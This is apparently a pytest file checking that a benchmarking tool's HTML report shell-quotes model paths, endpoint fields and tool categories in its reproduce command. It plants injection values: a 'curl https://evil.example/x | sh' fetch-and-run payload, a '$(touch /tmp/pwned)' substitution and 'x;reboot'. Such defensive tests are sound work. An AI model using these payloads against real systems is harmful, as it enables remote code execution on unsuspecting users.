"""The page shows, for each run, "the command that reproduces" it, and a published site
invites readers to paste it into a shell. Its words come from the results file, which is
anyone's: a model path or model id with shell syntax in it must stay one quoted word, not
run. Records are the recorded tests/fixtures/results files with one value planted."""

from __future__ import annotations

import json
import shlex

import pytest

from gptoss_doctor.reports.html import reproduce_command

from conftest import FIXTURES

PAYLOAD = "x.gguf; curl https://evil.example/x | sh #"


def _record(name: str, folder: str = "results") -> dict[str, object]:
    record: dict[str, object] = json.loads((FIXTURES / folder / name).read_text())
    return record


def test_a_model_path_with_shell_syntax_stays_one_word() -> None:
    record = _record("synthetic-tiny-cpu.json")
    record["model"]["synthetic"] = False  # type: ignore[index]
    record["model"]["path"] = f"/models/{PAYLOAD}"  # type: ignore[index]
    words = shlex.split(reproduce_command(record))
    assert words[:3] == ["gptoss-doctor", "bench", "speed"]
    assert words[words.index("--model") + 1] == f"/models/{PAYLOAD}"
    assert "sh" not in words and "curl" not in words


@pytest.mark.parametrize("field", ["model_id", "url", "api_key_env"])
def test_endpoint_words_with_shell_syntax_stay_one_word(field: str) -> None:
    record = _record("endpoint-load-sweep-zero.json", "results-publish")
    endpoint = record["endpoint"]
    endpoint[field] = f"$(touch /tmp/pwned){PAYLOAD}"  # type: ignore[index]
    words = shlex.split(reproduce_command(record))
    assert f"$(touch /tmp/pwned){PAYLOAD}" in words
    assert "curl" not in words


def test_tool_categories_with_shell_syntax_stay_one_word() -> None:
    tools = [p for p in sorted((FIXTURES / "results").glob("*.json"))
             if json.loads(p.read_text()).get("suite") == "tools"]
    record = json.loads(tools[0].read_text())
    record["config"]["categories"] = ["act", "x;reboot"]
    words = shlex.split(reproduce_command(record))
    assert words[words.index("--category") + 1] == "act,x;reboot"
